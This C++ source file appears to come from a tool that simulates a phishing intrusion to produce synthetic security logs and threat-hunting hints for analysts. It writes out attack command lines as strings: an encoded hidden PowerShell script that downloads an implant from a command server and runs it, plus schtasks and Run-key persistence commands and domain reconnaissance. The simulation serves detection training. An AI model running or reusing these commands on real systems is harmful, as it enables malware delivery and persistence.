#include "ingest/demo/campaign_host.h"

#include <fmt/format.h>

#include "ingest/demo/calendar.h"
#include "ingest/demo/inventory.h"
#include "ingest/demo/lossless.h"
#include "ingest/demo/text.h"

namespace harrier::ingest::demo {
namespace {

constexpr std::string_view kAttachment = "Invoice_8841_overdue.docm";
constexpr std::string_view kWordPath = R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")";

Visit ToCommand(Random& random) {
  Visit visit;
  visit.domain = kCommandHost;
  visit.ip = kCommandIp;
  visit.category = "Uncategorized";
  visit.method = "POST";
  visit.path = "/v1/collect";
  visit.sent = random.Between(612, 668);
  visit.received = random.Between(301, 329);
  visit.proxied = true;
  visit.resolve = random.Chance(0.25);
  return visit;
}

}  // namespace

HostCampaign::HostCampaign(Simulation& sim)
    : sim_(sim),
      clerk_(sim.world.people[kFinanceClerk]),
      helper_(sim.world.people[kHelpdesk].admin),
      laptop_(sim.MachineOf(clerk_)),
      files_(sim.ServerMachine("files")),
      random_(Random(sim.options.seed).Fork("grey heron")),
      implant_image_(Programs::Custom(
          "qmsync.exe", fmt::format(R"(C:\Users\{}\AppData\Roaming\Quill)", clerk_.account.name), "",
          "Quill Metrics", "qmsync.exe", "1.0.3")) {}

void HostCampaign::Tell(std::string_view stage, std::string_view tactic, std::string_view technique,
                        std::string_view table, int64_t time,
                        std::vector<std::pair<std::string, std::string>> keys, std::string_view hint,
                        bool live) {
  sim_.story.Add({"A", std::string(stage), std::string(tactic), std::string(technique), std::string(table),
                  time, std::move(keys), std::string(hint), live});
}

void HostCampaign::Schedule(const std::shared_ptr<HostCampaign>& self) {
  auto at = [&](int day, double hour, void (HostCampaign::*stage)(int64_t)) {
    const int64_t time =
        WorkdaysBefore(sim_.options.end_ticks, 9 - day) + Minutes(hour * 60 + random_.Unit() * 4);
    sim_.agenda.At(time, [self, stage](int64_t now) {
      const Lossless all(self->sim_.logs);
      (self.get()->*stage)(now);
    });
  };
  at(0, 8.68, &HostCampaign::Deliver);
  at(0, 9.0, &HostCampaign::Discover);
  at(0, 9.25, &HostCampaign::Persist);
  at(1, 9.1, &HostCampaign::Evade);
  at(1, 9.6, &HostCampaign::DumpCredentials);
  at(1, 10.1, &HostCampaign::Roast);
  at(2, 12.2, &HostCampaign::MoveByService);
  at(2, 12.9, &HostCampaign::MoveByWmi);
  at(4, 18.3, &HostCampaign::Collect);
  at(4, 22.5, &HostCampaign::TunnelOut);
  at(5, 1.2, &HostCampaign::Upload);
  at(5, 1.8, &HostCampaign::CoverTracks);
}

void HostCampaign::Deliver(int64_t t) {
  const Process& desktop = laptop_.OpenDesktop(t, clerk_.account);
  const Process& outlook = laptop_.Start(t + Seconds(3), desktop, "outlook",
                                         R"("C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")");
  const std::string folder =
      fmt::format(R"(C:\Users\{}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K2V7QX4M)",
                  clerk_.account.name);
  laptop_.sensor().File(t + Seconds(41), outlook, "FileCreated", folder, kAttachment, 88'412);
  Tell("Attachment saved from mail", "InitialAccess", "T1566.001", "DeviceFileEvents", t + Seconds(41),
       {{"FileName", std::string(kAttachment)},
        {"InitiatingProcessFileName", "OUTLOOK.EXE"},
        {"DeviceName", Lower(laptop_.host().fqdn)}},
       "A macro document out of Outlook's cache, on one machine only.");
  const Process& word = laptop_.Start(t + Seconds(44), outlook, "winword",
                                      fmt::format(R"({} /n "{}\{}" /o "")", kWordPath, folder, kAttachment));
  const std::string script = fmt::format(
      "$w=New-Object Net.WebClient;$p=$env:APPDATA+'\\Quill';md $p "
      "-Force|Out-Null;$w.DownloadFile('https://{}/a/qmsync.bin',$p+'\\qmsync.exe');"
      "Start-Process ($p+'\\qmsync.exe')",
      kCommandHost);
  const std::string encoded = EncodedCommand(script);
  const Process& shell =
      laptop_.Start(t + Seconds(71), word, "cmd",
                    fmt::format(R"(cmd.exe /c start /min powershell -nop -w hidden -enc {})", encoded));
  const Process& powershell = laptop_.Start(t + Seconds(72), shell, "powershell",
                                            fmt::format("powershell  -nop -w hidden -enc {}", encoded));
  Tell("Macro starts a shell", "Execution", "T1204.002", "DeviceProcessEvents", t + Seconds(71),
       {{"InitiatingProcessFileName", "WINWORD.EXE"},
        {"FileName", "cmd.exe"},
        {"DeviceName", Lower(laptop_.host().fqdn)}},
       "Word has no business starting a command shell.");
  Tell("Encoded PowerShell downloads the implant", "Execution", "T1059.001", "SecurityEvent", t + Seconds(72),
       {{"CommandLine", "powershell  -nop -w hidden -enc"}, {"Computer", laptop_.host().fqdn}},
       "Decode it: base64 of UTF-16; the management agent's scripts name no address.");
  Visit download = ToCommand(random_);
  download.path = "/a/qmsync.bin";
  download.method = "GET";
  download.received = 412'672;
  download.resolve = true;
  Connect(sim_, laptop_, t + Seconds(75), powershell, download);
  laptop_.sensor().File(t + Seconds(78), powershell, "FileCreated", implant_image_.folder,
                        implant_image_.file, 412'672, fmt::format("https://{}/a/qmsync.bin", kCommandHost));
  implant_ = &laptop_.Start(t + Seconds(80), powershell, implant_image_,
                            fmt::format("\"{}\"", implant_image_.Path()));
  Tell("First call to the command server", "CommandAndControl", "T1071.001", "DnsEvents", t + Seconds(75),
       {{"Name", std::string(kCommandHost)}}, "A name that nobody asked for before.");
  Tell("Beacon every five minutes", "CommandAndControl", "T1071.001", "DeviceNetworkEvents", t + Minutes(3),
       {{"RemoteUrl", std::string(kCommandHost)}, {"InitiatingProcessFileName", "qmsync.exe"}},
       "Even gaps and even sizes, while she is logged on.");
  Tell("The same beacon at the proxy", "CommandAndControl", "T1071.001", "CommonSecurityLog", t + Minutes(3),
       {{"DestinationHostName", std::string(kCommandHost)}, {"RequestMethod", "POST"}},
       "An indicator for it comes days later: look back.");
  sim_.agenda.At(t + Minutes(3), [this](int64_t now) { Beacon(now); });
  using Indicator = std::pair<std::string_view, std::string>;
  const Indicator known[] = {{"domain-name", std::string(kCommandHost)},
                             {"ipv4-addr", std::string(kCommandIp)},
                             {"file", implant_image_.sha256}};
  for (const Indicator& indicator : known) {
    sim_.agenda.At(WorkdaysBefore(sim_.options.end_ticks, 3) + Minutes(241), [this, indicator](int64_t now) {
      const Lossless all(sim_.logs);
      WriteIndicator(sim_.logs, random_, now, indicator.first, indicator.second, 85,
                     "Command and control of a commodity loader");
    });
  }
  Tell("The feed learns of the command server", "CommandAndControl", "T1071.001", "ThreatIntelIndicators",
       WorkdaysBefore(sim_.options.end_ticks, 3) + Minutes(241),
       {{"ObservableValue", std::string(kCommandHost)}}, "Retro-match it.");
}

const Process& HostCampaign::Implant(int64_t t) {
  const Process& desktop = laptop_.OpenDesktop(t - Seconds(20), clerk_.account);
  if (implant_ == nullptr || implant_->logon != desktop.logon) {
    // The scheduled task brings it back at the next logon.
    implant_ =
        &laptop_.Start(t - Seconds(10), laptop_.Base(BaseProcess::kScheduler), implant_image_,
                       fmt::format("\"{}\" /s", implant_image_.Path()), *desktop.logon, Integrity::kMedium);
  }
  return *implant_;
}

void HostCampaign::Beacon(int64_t t) {
  const Process* desktop = laptop_.desktop();
  if (desktop != nullptr && desktop->logon->account == &clerk_.account) {
    Connect(sim_, laptop_, t, Implant(t), ToCommand(random_));
  }
  const int64_t next = t + Seconds(random_.Normal(300, 6));
  if (next < sim_.end) sim_.agenda.At(next, [this](int64_t now) { Beacon(now); });
}

void HostCampaign::Discover(int64_t t) {
  struct Look {
    std::string_view program, command;
  };
  constexpr Look kLooks[] = {{"whoami", "whoami /all"},
                             {"ipconfig", "ipconfig /all"},
                             {"systeminfo", "systeminfo"},
                             {"net", "net group \"Domain Admins\" /domain"},
                             {"nltest", "nltest /domain_trusts /all_trusts"},
                             {"net", "net view /all /domain"},
                             {"quser", "quser"},
                             {"tasklist", "tasklist /svc"},
                             {"net", "net localgroup Administrators"}};
  int64_t at = t;
  for (const Look& look : kLooks) {
    const Process& shell =
        laptop_.Start(at, Implant(at), "cmd", fmt::format("cmd.exe /c {} 2>&1", look.command));
    const Process& tool = laptop_.Start(at + Seconds(0.2), shell, look.program, std::string(look.command));
    laptop_.Stop(at + Seconds(2), tool);
    at += Seconds(static_cast<double>(random_.Between(14, 45)));
  }
  Tell("Looking around", "Discovery", "T1087.002", "DeviceProcessEvents", t,
       {{"ProcessCommandLine", "nltest /domain_trusts"}, {"DeviceName", Lower(laptop_.host().fqdn)}},
       "Many discovery tools in minutes, under a parent out of AppData.");
}

void HostCampaign::Persist(int64_t t) {
  const Process& shell = laptop_.Start(t, Implant(t), "cmd", "cmd.exe");
  laptop_.Start(t + Seconds(4), shell, "schtasks",
                fmt::format(R"(schtasks /create /tn "Quill Metrics Sync" /tr "{} /s" /sc onlogon /f)",
                            implant_image_.Path()));
  laptop_.security().TaskCreated(t + Seconds(4.2), *shell.logon, R"(\Quill Metrics Sync)",
                                 implant_image_.Path(), "/s");
  laptop_.sensor().Other(t + Seconds(4.2), laptop_.Base(BaseProcess::kScheduler), "ScheduledTaskCreated", "",
                         "", R"({"TaskName":"\\Quill Metrics Sync"})");
  const Process& reg = laptop_.Start(
      t + Seconds(31), shell, "reg",
      fmt::format(
          R"(reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v QuillSync /t REG_SZ /d "{} /s" /f)",
          implant_image_.Path()));
  laptop_.sensor().Registry(
      t + Seconds(31.2), reg,
      fmt::format(R"(HKEY_CURRENT_USER\{}\Software\Microsoft\Windows\CurrentVersion\Run)",
                  clerk_.account.sid),
      "QuillSync", implant_image_.Path() + " /s");
  Tell("Scheduled task at logon", "Persistence", "T1053.005", "SecurityEvent", t + Seconds(4.2),
       {{"EventData", "Quill Metrics Sync"}, {"Computer", laptop_.host().fqdn}},
       "4698, its program under AppData.");
  Tell("Run key", "Persistence", "T1547.001", "DeviceRegistryEvents", t + Seconds(31.2),
       {{"RegistryValueName", "QuillSync"}, {"RegistryKey", "CurrentVersion\\Run"}},
       "Points into a profile.");
}

void ScheduleHostCampaign(Simulation& sim) {
  const auto campaign = std::make_shared<HostCampaign>(sim);
  campaign->Schedule(campaign);
  // The agenda's steps keep the campaign; one more does so until the end, for the beacon.
  sim.agenda.At(sim.end, [campaign](int64_t) {});
}

void ScheduleHostCampaignEnd(Simulation& sim, int64_t time) {
  const auto campaign = std::make_shared<HostCampaign>(sim);
  sim.agenda.At(time - Seconds(70), [campaign](int64_t now) { campaign->Beacon(now); });
  sim.agenda.At(time, [campaign](int64_t now) { campaign->Impact(now); });
  sim.agenda.At(sim.end, [campaign](int64_t) {});
}

}  // namespace harrier::ingest::demo
